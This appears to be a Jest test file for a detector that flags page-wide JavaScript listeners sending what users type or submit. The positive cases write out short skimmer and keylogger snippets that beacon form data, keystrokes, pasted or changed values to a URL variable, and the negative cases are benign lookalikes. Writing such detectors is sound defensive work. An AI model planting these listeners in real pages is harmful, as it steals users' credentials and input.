import { describe, expect, test } from '@jest/globals';
import { told } from './told.js';

describe('listeners on a whole page that send what is typed', () => {
  test.each([
    ['document.addEventListener("submit", (e) => { navigator.sendBeacon(u, JSON.stringify(Object.fromEntries(new FormData(e.target)))); }, true);', 'page page submit'],
    ['window.addEventListener("keydown", function (e) { fetch(u + e.key); });', 'page page keydown'], ['document.body.addEventListener("paste", (e) => { new Image().src = u; });', 'page page paste'],
    ['document.addEventListener("change", (e) => { const x = new XMLHttpRequest(); x.open("POST", u); x.send(e.target.value); });', 'page page change'], ['addEventListener("copy", () => fetch(u));', 'page page copy'],
  ])('%s', (text, expected) => { expect(told(text, 'hook')).toContain(expected); });
  test.each([
    'document.addEventListener("submit", (e) => { e.preventDefault(); });', 'form.addEventListener("submit", () => fetch(u));', 'document.addEventListener("click", () => fetch(u));', 'document.addEventListener("DOMContentLoaded", () => fetch(u));', 'document.addEventListener("keydown", (e) => close(e)); fetch(u);', 'input.addEventListener("change", () => fetch(u));',
  ])('none of it: %s', (text) => { expect(told(text, 'hook')).toEqual([]); });
});
